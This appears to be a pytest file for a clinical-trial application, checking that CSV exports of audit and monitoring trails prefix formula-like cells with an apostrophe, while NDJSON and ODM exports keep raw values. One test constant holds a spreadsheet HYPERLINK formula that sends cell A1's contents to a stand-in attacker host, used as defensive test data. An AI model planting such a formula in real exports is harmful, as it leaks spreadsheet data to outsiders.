"""CSV formula injection (OWASP): every CSV the app writes neutralises formula cells; NDJSON and
ODM keep the raw value. Runs on SQLite (the csv module writes) and PostgreSQL (COPY writes)."""

import csv
import io
import json
from datetime import date, timedelta

import pytest
from django.urls import reverse

from enrollment import services
from tests.exports.conftest import body
from trialsite.csv_safety import neutralise_cell
from trialsite.models import Role

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("raw, written", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    (-1.5, -1.5), (None, None),
])
def test_only_text_starting_like_a_formula_is_prefixed(raw, written):
    assert neutralise_cell(raw) == written


@pytest.fixture
def hostile_reason(world, coordinator):
    services.patient_update(actor=coordinator, patient=world.patient_a1, expected_version=1,
                            reason=HOSTILE, consent_version="1.1")
    return HOSTILE


def test_the_audit_trail_export_neutralises_formulas_and_ndjson_keeps_them(
        world, api_for, hostile_reason):
    api = api_for(Role.DATA_MANAGER)
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(
        body(api.get("/api/v1/exports/audit_trail.csv"))))]
    assert "'" + HOSTILE in reasons
    assert HOSTILE not in reasons
    raw = [json.loads(line)["reason"] for line in
           body(api.get("/api/v1/exports/audit_trail.ndjson")).splitlines()]
    assert HOSTILE in raw


def test_the_monitoring_trail_download_neutralises_formulas(world, client, hostile_reason):
    client.force_login(world.users[Role.MONITOR])
    today = date.today()
    response = client.get(reverse("study-trail-csv", args=[world.study_a.code]), {
        "date_from": (today - timedelta(days=1)).isoformat(), "date_to": today.isoformat(),
        "site": world.site_a1.code})
    cells = [cell for row in csv.reader(io.StringIO(body(response))) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells


def test_the_data_dictionary_says_how_csv_text_is_neutralised(world, api_for):
    rows = list(csv.DictReader(io.StringIO(
        body(api_for(Role.SPONSOR).get("/api/v1/exports/dictionary.csv")))))
    reason = next(r for r in rows if (r["dataset"], r["variable"]) == ("audit_trail", "reason"))
    assert "leading apostrophe" in reason["description"]
    assert "NDJSON and ODM carry the value unchanged" in reason["description"]
    record_id = next(r for r in rows if (r["dataset"], r["variable"]) == ("audit_trail",
                                                                          "record_id"))
    assert "apostrophe" not in record_id["description"]
